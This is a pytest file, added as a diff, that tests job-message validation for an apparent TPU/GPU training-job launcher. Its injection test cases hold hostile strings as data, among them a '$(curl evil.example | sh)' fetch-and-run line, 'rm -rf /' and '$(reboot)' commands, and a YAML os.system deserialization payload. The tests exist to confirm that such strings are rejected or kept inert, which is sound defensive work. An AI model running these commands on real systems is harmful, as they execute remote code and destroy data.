@@ -1,0 +1,509 @@
+"""Job message validation (SPEC 3.1): every field's failure modes, hostile input, JSON/YAML equivalence."""
+
+from __future__ import annotations
+
+import copy
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from respawn.model import GpuMachine, JobSpec, TpuMachine
+from respawn.spec import (
+    MAX_MESSAGE_BYTES,
+    CancelRequest,
+    SpecError,
+    cancel_message,
+    format_ttl,
+    load_job_file,
+    parse_job_message,
+    parse_ttl,
+    spec_to_message,
+)
+
+DATA = Path(__file__).parent.parent / "data"
+DELETE = object()
+
+
+def tpu_message() -> dict[str, Any]:
+    return {
+        "action": "submit",
+        "job_id": "llm-small-001",
+        "machine": {"kind": "tpu", "accelerator_type": "v5litepod-8", "runtime_version": "v2-alpha-tpuv5-lite"},
+        "zones": ["us-central1-a", "us-west4-a"],
+        "provisioning": "spot",
+        "image": "us-docker.pkg.dev/ml-research-4821/respawn/trainer:2025.03.1",
+        "args": ["--steps=20000"],
+        "env": {"KEY": "value"},
+        "checkpoint_uri": "gs://ml-research-4821-ckpt/runs/llm-small-001",
+        "ttl": "48h",
+        "max_preemptions": None,
+        "max_failures": 3,
+        "labels": {"team": "nlp"},
+    }
+
+
+def gpu_machine() -> dict[str, Any]:
+    return {"kind": "gpu", "machine_type": "g2-standard-8", "accelerator_type": "nvidia-l4", "accelerator_count": 1}
+
+
+def with_change(path: str, value: Any, base: dict[str, Any] | None = None) -> dict[str, Any]:
+    """A copy of the message with `a.b` set to value (or deleted with DELETE)."""
+    msg = copy.deepcopy(base if base is not None else tpu_message())
+    *parents, last = path.split(".")
+    target = msg
+    for p in parents:
+        target = target[p]
+    if value is DELETE:
+        del target[last]
+    else:
+        target[last] = value
+    return msg
+
+
+def error_of(msg: Any) -> SpecError:
+    with pytest.raises(SpecError) as info:
+        parse_job_message(msg)
+    return info.value
+
+
+# ---------------------------------------------------------------------------- valid messages
+
+
+def test_full_tpu_message() -> None:
+    spec = parse_job_message(tpu_message())
+    assert spec == JobSpec(
+        job_id="llm-small-001",
+        machine=TpuMachine("v5litepod-8", "v2-alpha-tpuv5-lite"),
+        zones=("us-central1-a", "us-west4-a"),
+        image="us-docker.pkg.dev/ml-research-4821/respawn/trainer:2025.03.1",
+        checkpoint_uri="gs://ml-research-4821-ckpt/runs/llm-small-001",
+        provisioning="spot",
+        args=("--steps=20000",),
+        env=(("KEY", "value"),),
+        ttl_s=48 * 3600,
+        max_preemptions=None,
+        max_failures=3,
+        labels=(("team", "nlp"),),
+    )
+
+
+def test_defaults_are_the_specs() -> None:
+    msg = {k: v for k, v in tpu_message().items() if k in ("action", "job_id", "machine", "zones", "image")}
+    msg["checkpoint_uri"] = "gs://bucket-1/x"
+    spec = parse_job_message(msg)
+    assert isinstance(spec, JobSpec)
+    assert (spec.provisioning, spec.args, spec.env, spec.ttl_s) == ("spot", (), (), 48 * 3600)
+    assert (spec.max_preemptions, spec.max_failures, spec.labels) == (None, 3, ())
+
+
+def test_gpu_message() -> None:
+    spec = parse_job_message(with_change("machine", gpu_machine()))
+    assert isinstance(spec, JobSpec)
+    assert spec.machine == GpuMachine("g2-standard-8", "nvidia-l4", 1)
+    big = parse_job_message(with_change("machine", {**gpu_machine(), "accelerator_count": 8, "boot_disk_gb": 500}))
+    assert isinstance(big, JobSpec) and big.machine == GpuMachine("g2-standard-8", "nvidia-l4", 8, boot_disk_gb=500)
+
+
+@pytest.mark.parametrize("data_type", [bytes, str, dict])
+def test_bytes_str_and_dict_inputs_agree(data_type: type) -> None:
+    text = json.dumps(tpu_message())
+    data = {bytes: text.encode(), str: text, dict: json.loads(text)}[data_type]
+    assert parse_job_message(data) == parse_job_message(tpu_message())
+
+
+def test_cancel() -> None:
+    assert parse_job_message({"action": "cancel", "job_id": "llm-small-001"}) == CancelRequest("llm-small-001")
+    assert parse_job_message(json.dumps(cancel_message("llm-small-001"))) == CancelRequest("llm-small-001")
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "v5litepod-8",
+        "v4-8",
+        "v6e-8",
+        "v5p-16",
+        "v2-8",
+        "v3-2048",
+    ],
+)
+def test_tpu_types(value: str) -> None:
+    assert isinstance(parse_job_message(with_change("machine.accelerator_type", value)), JobSpec)
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "us-docker.pkg.dev/p/repo/trainer:v1",
+        "trainer",
+        "localhost:5000/trainer:dev",
+        "ghcr.io/org/my_trainer:1.0.0-rc.1",
+        "gcr.io/p/trainer@sha256:" + "a" * 64,
+        "gcr.io/p/trainer:v2@sha256:" + "0" * 64,
+    ],
+)
+def test_images(image: str) -> None:
+    assert isinstance(parse_job_message(with_change("image", image)), JobSpec)
+
+
+@pytest.mark.parametrize(
+    ("ttl", "seconds"),
+    [("30m", 1800), ("48h", 172800), ("2d", 172800), ("90s", 90), ("14d", 14 * 86400), (60, 60), (3600, 3600)],
+)
+def test_ttl_forms(ttl: Any, seconds: int) -> None:
+    spec = parse_job_message(with_change("ttl", ttl))
+    assert isinstance(spec, JobSpec) and spec.ttl_s == seconds
+    assert parse_ttl(format_ttl(seconds)) == seconds
+
+
+def test_hostile_strings_in_args_and_env_values_are_kept_verbatim() -> None:
+    """Args and env values are data (quoted downstream, never interpolated): kept byte for byte."""
+    hostile = ["; rm -rf / #", "$(curl evil.example | sh)", "`id`", "a'b\"c", "line1\nline2", "&& || > < * ? ~ !"]
+    msg = with_change("args", hostile)
+    msg["env"] = {"CMD": "$(reboot)'\"\n;|&"}
+    spec = parse_job_message(msg)
+    assert isinstance(spec, JobSpec)
+    assert spec.args == tuple(hostile) and spec.env == (("CMD", "$(reboot)'\"\n;|&"),)
+
+
+def test_round_trip_through_spec_to_message() -> None:
+    for msg in (tpu_message(), with_change("machine", gpu_machine()), with_change("ttl", 5400)):
+        spec = parse_job_message(msg)
+        assert isinstance(spec, JobSpec)
+        again = json.loads(json.dumps(spec_to_message(spec)))
+        assert parse_job_message(again) == spec
+
+
+# ---------------------------------------------------------------------------- every field's failure modes
+
+LONG = "x" * 5000
+CASES: list[tuple[str, Any, str, str]] = [
+    # (path to change, new value, field named in the error, text in the error)
+    ("action", DELETE, "action", "missing"),
+    ("action", "create", "action", '"create" is not an action'),
+    ("action", 1, "action", "is not an action"),
+    ("job_id", DELETE, "job_id", "missing"),
+    ("job_id", "", "job_id", "is not a valid job id"),
+    ("job_id", "Llm", "job_id", "is not a valid job id"),
+    ("job_id", "1llm", "job_id", "is not a valid job id"),
+    ("job_id", "llm-", "job_id", "is not a valid job id"),
+    ("job_id", "a" * 40, "job_id", "is not a valid job id"),
+    ("job_id", "llm_small", "job_id", "is not a valid job id"),
+    ("job_id", "llm\n", "job_id", "is not a valid job id"),
+    ("job_id", 7, "job_id", "expected a string, got an integer"),
+    ("machine", DELETE, "machine", "missing"),
+    ("machine", "tpu", "machine", "expected an object, got a string"),
+    ("machine.kind", DELETE, "machine.kind", "missing"),
+    ("machine.kind", "cpu", "machine.kind", '"cpu" is not a machine kind'),
+    ("machine.accelerator_type", DELETE, "machine.accelerator_type", "missing"),
+    ("machine.accelerator_type", "v5litepod", "machine.accelerator_type", "is not a TPU accelerator type"),
+    ("machine.accelerator_type", "nvidia-l4", "machine.accelerator_type", "is not a TPU accelerator type"),
+    ("machine.runtime_version", DELETE, "machine.runtime_version", "missing"),
+    ("machine.runtime_version", "v2 alpha", "machine.runtime_version", "is not a TPU runtime version"),
+    ("machine.runtime_version", ["v2"], "machine.runtime_version", "expected a string, got a list"),
+    ("machine.zone", "us-central1-a", "machine.zone", "unknown field"),
+    ("machine.machine_type", "g2-standard-8", "machine.machine_type", "unknown field"),
+    ("zones", DELETE, "zones", "missing"),
+    ("zones", [], "zones", "the list is empty"),
+    ("zones", "us-central1-a", "zones", "expected a list of zones, got a string"),
+    ("zones", ["us-central1-a", "us-central1"], "zones[1]", '"us-central1" is not a zone'),
+    ("zones", ["US-CENTRAL1-A"], "zones[0]", "is not a zone"),
+    ("zones", ["us-central1-a; ls"], "zones[0]", "is not a zone"),
+    ("zones", ["us-central1-a", "us-central1-a"], "zones[1]", "listed twice"),
+    ("zones", [f"us-central{i}-a" for i in range(21)], "zones", "21 zones"),
+    ("zones", ["us-central1-a", None], "zones[1]", "expected a string, got null"),
+    ("provisioning", "spto", "provisioning", '"spto" is not a provisioning model'),
+    ("provisioning", None, "provisioning", "expected a string, got null"),
+    ("image", DELETE, "image", "missing"),
+    ("image", "trainer; rm -rf /", "image", "is not a container image reference"),
+    ("image", "trainer:v1\n--privileged", "image", "is not a container image reference"),
+    ("image", "$(evil)", "image", "is not a container image reference"),
+    ("image", "trainer v1", "image", "is not a container image reference"),
+    ("image", "Trainer:v1", "image", "is not a container image reference"),
+    ("image", "a/" * 300 + "b", "image", "characters"),
+    ("image", 5, "image", "expected a string, got an integer"),
+    ("args", "--steps=1", "args", "expected a list of strings, got a string"),
+    ("args", ["--a", 3], "args[1]", "expected a string, got an integer"),
+    ("args", ["--a", None], "args[1]", "expected a string, got null"),
+    ("args", ["ok", "nul\x00byte"], "args[1]", "NUL"),
+    ("args", ["y" * 4097], "args[0]", "4097 characters"),
+    ("args", ["a"] * 257, "args", "257 items"),
+    ("env", ["KEY=value"], "env", "expected an object, got a list"),
+    ("env", {"lower": "x"}, "env.lower", "not a valid variable name"),
+    ("env", {"1KEY": "x"}, "env.1KEY", "not a valid variable name"),
+    ("env", {"KEY;rm": "x"}, "env.KEY;rm", "not a valid variable name"),
+    ("env", {"KEY\nX": "x"}, "env.KEY\\nX", "not a valid variable name"),
+    ("env", {"RESPAWN_JOB_ID": "x"}, "env.RESPAWN_JOB_ID", "reserved"),
+    ("env", {"KEY": 1}, "env.KEY", "expected a string, got an integer"),
+    ("env", {"KEY": "a\x00b"}, "env.KEY", "NUL"),
+    ("env", {f"K{i}": "v" * 1000 for i in range(40)}, "env", "bytes of names and values"),
+    ("checkpoint_uri", DELETE, "checkpoint_uri", "missing"),
+    ("checkpoint_uri", "s3://bucket/x", "checkpoint_uri", "is not a gs:// URI with a path"),
+    ("checkpoint_uri", "/local/path", "checkpoint_uri", "is not a gs:// URI with a path"),
+    ("checkpoint_uri", "gs://bucket-only", "checkpoint_uri", "is not a gs:// URI with a path"),
+    ("checkpoint_uri", "gs://bucket/", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://Bucket/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://ab/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://goog-ckpt/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://my-google-ckpt/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://192.168.1.1/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://-bucket/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://" + "b" * 64 + "/x", "checkpoint_uri", "is not a valid bucket name"),
+    ("checkpoint_uri", "gs://bucket/runs/../other", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://bucket/runs//x", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://bucket/x y", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://bucket/x;reboot", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://bucket/$(id)", "checkpoint_uri", "is not a valid object path"),
+    ("checkpoint_uri", "gs://bucket/x\n", "checkpoint_uri", "is not a gs:// URI with a path"),
+    ("checkpoint_uri", "gs://bucket/" + "p" * 1100, "checkpoint_uri", "characters"),
+    ("ttl", "59s", "ttl", "out of range"),
+    ("ttl", "0s", "ttl", "out of range"),
+    ("ttl", "15d", "ttl", "out of range"),
+    ("ttl", 59, "ttl", "out of range"),
+    ("ttl", 14 * 86400 + 1, "ttl", "out of range"),
+    ("ttl", -5, "ttl", "out of range"),
+    ("ttl", "48 h", "ttl", "is not a duration"),
+    ("ttl", "1h30m", "ttl", "is not a duration"),
+    ("ttl", "3600", "ttl", "is not a duration"),
+    ("ttl", "2w", "ttl", "is not a duration"),
+    ("ttl", 3600.0, "ttl", "got a number"),
+    ("ttl", True, "ttl", "got a boolean"),
+    ("ttl", None, "ttl", "got null"),
+    ("max_preemptions", -1, "max_preemptions", "out of range"),
+    ("max_preemptions", "5", "max_preemptions", "expected null or an integer, got a string"),
+    ("max_preemptions", True, "max_preemptions", "got a boolean"),
+    ("max_preemptions", 2.5, "max_preemptions", "got a number"),
+    ("max_failures", 101, "max_failures", "out of range"),
+    ("max_failures", -1, "max_failures", "out of range"),
+    ("max_failures", None, "max_failures", "expected an integer, got null"),
+    ("max_failures", False, "max_failures", "expected an integer, got a boolean"),
+    ("max_failures", 3.0, "max_failures", "expected an integer, got a number"),
+    ("labels", ["team"], "labels", "expected an object, got a list"),
+    ("labels", {"Team": "nlp"}, "labels.Team", "not a valid label key"),
+    ("labels", {"9team": "nlp"}, "labels.9team", "not a valid label key"),
+    ("labels", {"k" * 64: "v"}, "labels." + "k" * 37 + "...", "not a valid label key"),
+    ("labels", {"team": "NLP"}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": "a b"}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": "x;rm -rf /"}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": "'$(id)'"}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": "a\nb"}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": "v" * 64}, "labels.team", "is not a valid label value"),
+    ("labels", {"team": 5}, "labels.team", "expected a string, got an integer"),
+    ("labels", {"respawn-job": "other"}, "labels.respawn-job", "reserved"),
+    ("labels", {f"k{i}": "v" for i in range(61)}, "labels", "61 labels"),
+    ("colour", "blue", "colour", "unknown field"),
+    ("Job_Id", "x", "Job_Id", "unknown field"),
+]
+
+
+@pytest.mark.parametrize(("path", "value", "field", "text"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
+def test_each_bad_field_gives_one_line_naming_it(path: str, value: Any, field: str, text: str) -> None:
+    err = error_of(with_change(path, value))
+    line = str(err)
+    assert err.field == field
+    assert text in line
+    assert line.startswith(f'job message: field "{field}": ')
+    assert "; allowed: " in line and err.allowed
+    assert "\n" not in line and "\r" not in line
+    assert len(line) < 400
+
+
+GPU_CASES: list[tuple[str, Any, str, str]] = [
+    ("machine.machine_type", DELETE, "machine.machine_type", "missing"),
+    ("machine.machine_type", "G2", "machine.machine_type", "is not a machine type"),
+    ("machine.machine_type", "g2-standard-8 --x", "machine.machine_type", "is not a machine type"),
+    ("machine.accelerator_type", "tesla-l4", "machine.accelerator_type", "is not a GPU accelerator type"),
+    ("machine.accelerator_type", DELETE, "machine.accelerator_type", "missing"),
+    ("machine.accelerator_count", 3, "machine.accelerator_count", "3 is not a GPU count"),
+    ("machine.accelerator_count", 0, "machine.accelerator_count", "is not a GPU count"),
+    ("machine.accelerator_count", "1", "machine.accelerator_count", "expected an integer, got a string"),
+    ("machine.accelerator_count", True, "machine.accelerator_count", "got a boolean"),
+    ("machine.accelerator_count", DELETE, "machine.accelerator_count", "missing"),
+    ("machine.boot_disk_gb", 5, "machine.boot_disk_gb", "out of range"),
+    ("machine.runtime_version", "v2", "machine.runtime_version", "unknown field"),
+]
+
+
+@pytest.mark.parametrize(("path", "value", "field", "text"), GPU_CASES)
+def test_each_bad_gpu_field(path: str, value: Any, field: str, text: str) -> None:
+    err = error_of(with_change(path, value, with_change("machine", gpu_machine())))
+    assert err.field == field and text in str(err)
+
+
+def test_unknown_field_lists_the_allowed_fields() -> None:
+    err = error_of(with_change("priority", "high"))
+    assert str(err) == (
+        'job message: field "priority": unknown field; allowed: action, job_id, machine, zones, provisioning, '
+        "image, args, env, checkpoint_uri, ttl, max_preemptions, max_failures, labels"
+    )
+    err = error_of(with_change("machine.topology", "2x4"))
+    assert err.field == "machine.topology" and err.allowed == "kind, accelerator_type, runtime_version"
+
+
+def test_the_example_line_from_the_docs() -> None:
+    err = error_of(with_change("zones", ["us-central1-a", "us-central1"]))
+    assert str(err) == (
+        'job message: field "zones[1]": "us-central1" is not a zone; allowed: a zone name like us-central1-a'
+    )
+
+
+def test_cancel_rejects_other_fields() -> None:
+    err = error_of({"action": "cancel", "job_id": "llm-small-001", "zones": ["us-central1-a"]})
+    assert err.field == "zones" and 'not allowed with action "cancel"' in str(err) and err.allowed == "action, job_id"
+    assert error_of({"action": "cancel"}).field == "job_id"
+    assert error_of({"action": "cancel", "job_id": "Bad!"}).field == "job_id"
+    assert error_of({"action": "cancel", "job_id": "x", "why": 1}).problem == "unknown field"
+
+
+def test_env_values_are_never_echoed() -> None:
+    secret = "hunter2-very-secret"
+    for env in ({"TOKEN": secret + "\x00"}, {"token": secret}, {"TOKEN": [secret]}, {"RESPAWN_X": secret}):
+        assert secret not in str(error_of(with_change("env", env)))
+
+
+# ---------------------------------------------------------------------------- whole-message problems
+
+
+@pytest.mark.parametrize(
+    ("data", "text"),
+    [
+        (b"", "not valid JSON"),
+        (b"{", "not valid JSON"),
+        (b"\xff\xfe{}", "not UTF-8"),
+        (b"[1, 2]", "expected a JSON object, got a list"),
+        (b'"submit"', "expected a JSON object, got a string"),
+        (b"null", "expected a JSON object, got null"),
+        (b'{"action": "submit", "ttl": NaN}', "not valid JSON"),
+        (b"[" * 150_000 + b"]" * 150_000, "the message is 300000 bytes"),
+        (b"[" * 50_000 + b"]" * 50_000, "not valid JSON"),
+        (b"1" * 5000, "not valid JSON"),
+        (12, "expected JSON text or an object, got an integer"),
+        (None, "expected JSON text or an object, got null"),
+    ],
+)
+def test_unreadable_messages(data: Any, text: str) -> None:
+    err = error_of(data)
+    assert err.field == "" and text in str(err) and str(err).startswith("job message: ")
+    assert "\n" not in str(err)
+
+
+def test_huge_message_says_its_size() -> None:
+    msg = with_change("args", ["a" * 4000] * 70)
+    size = len(json.dumps(msg).encode())
+    assert size > MAX_MESSAGE_BYTES
+    err = error_of(json.dumps(msg).encode())
+    assert f"the message is {size} bytes" in str(err) and str(MAX_MESSAGE_BYTES) in err.allowed
+    assert f"the message is {len(json.dumps(msg, default=str).encode())} bytes" in str(error_of(msg))
+
+
+def test_duplicate_fields_are_rejected() -> None:
+    text = json.dumps(tpu_message())[:-1] + ', "job_id": "other-job"}'
+    err = error_of(text)
+    assert err.field == "job_id" and "twice" in str(err)
+
+
+def test_lone_surrogates_are_rejected() -> None:
+    err = error_of(json.dumps(with_change("args", ["ok", "\ud800"])))
+    assert err.field == "args[1]" and "Unicode" in str(err)
+
+
+def test_dict_that_is_not_json_is_rejected() -> None:
+    msg: dict[str, Any] = tpu_message()
+    msg["args"] = [msg]
+    assert "cannot be represented as JSON" in str(error_of(msg))
+
+
+def test_yaml_oddities_name_the_field() -> None:
+    """YAML turns unquoted `on`, dates and numbers into other types; the error says which type."""
+    msg = yaml.safe_load("labels: {team: 2024-01-01}\nenv: {DEBUG: on}")
+    assert "got a date" in str(error_of({**tpu_message(), "labels": msg["labels"]}))
+    assert "got a boolean" in str(error_of({**tpu_message(), "env": msg["env"]}))
+    assert error_of({**tpu_message(), 1: "x"}).field == "1"
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.recursive(
+        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
+        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
+        max_leaves=20,
+    ),
+    st.sampled_from(["action", "job_id", "machine", "zones", "image", "env", "labels", "ttl", "args", "x"]),
+)
+def test_any_value_in_any_field_gives_a_spec_error_or_a_spec(value: Any, path: str) -> None:
+    msg = with_change(path, value)
+    for data in (msg, json.dumps(msg, allow_nan=True)):
+        try:
+            parse_job_message(data)
+        except SpecError as e:
+            assert "\n" not in str(e)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.binary(max_size=300))
+def test_any_bytes_give_a_spec_error_or_a_spec(data: bytes) -> None:
+    try:
+        parse_job_message(data)
+    except SpecError as e:
+        assert "\n" not in str(e)
+
+
+# ---------------------------------------------------------------------------- files
+
+
+def test_yaml_and_json_files_are_equivalent(tmp_path: Path) -> None:
+    from_yaml = load_job_file(DATA / "job_tpu.yaml")
+    json_file = tmp_path / "job.json"
+    json_file.write_text(json.dumps(from_yaml))
+    assert load_job_file(json_file) == from_yaml
+    spec = parse_job_message(from_yaml)
+    assert isinstance(spec, JobSpec) and spec.env == (("XLA_FLAGS", "--xla_dump_to=/tmp/xla"),)
+    assert spec.args == ("--steps=20000", "--model=small")
+    assert parse_job_message(load_job_file(DATA / "job_gpu.json")) == JobSpec(
+        job_id="bert-ft-7",
+        machine=GpuMachine("g2-standard-8", "nvidia-l4", 1),
+        zones=("europe-west4-b", "europe-west4-c"),
+        image="europe-docker.pkg.dev/ml-research-4821/respawn/trainer@sha256:"
+        "3b1f9e0c7a2d4f6e8b0a1c3e5f7d9b2a4c6e8f0a1b3d5f7e9c2a4b6d8f0e1a3c",
+        checkpoint_uri="gs://ml-research-4821-ckpt/runs/bert-ft-7",
+        ttl_s=1800,
+    )
+
+
+def test_a_yml_file_may_hold_json(tmp_path: Path) -> None:
+    f = tmp_path / "job.yml"
+    f.write_text(json.dumps(tpu_message()))
+    assert parse_job_message(load_job_file(f)) == parse_job_message(tpu_message())
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "text"),
+    [
+        ("job.yaml", "zones: [us-central1-a\n", "not valid YAML at line"),
+        ("job.yaml", "- a\n- b\n", "holds a list, not an object"),
+        ("job.yaml", "", "holds null, not an object"),
+        ("job.yaml", "a: &x [1]\nb: *x\n", "aliases"),
+        ("job.yaml", "job_id: a\njob_id: b\n", "appears twice"),
+        ("job.yaml", "x: !!python/object/apply:os.system ['echo hacked']\n", "not valid YAML"),
+        ("job.json", "{'single': 'quotes'}", "not valid JSON"),
+        ("job.json", '{"a": 1, "a": 2}', "appears twice"),
+        ("job.json", "x" * (MAX_MESSAGE_BYTES + 1), "bytes"),
+    ],
+)
+def test_bad_files(tmp_path: Path, name: str, content: str, text: str) -> None:
+    f = tmp_path / name
+    f.write_text(content)
+    with pytest.raises(SpecError) as info:
+        load_job_file(f)
+    assert text in str(info.value) and "\n" not in str(info.value)
+
+
+def test_missing_file(tmp_path: Path) -> None:
+    with pytest.raises(SpecError) as info:
+        load_job_file(tmp_path / "nope.yaml")
+    assert "cannot read" in str(info.value) and "No such file" in str(info.value)
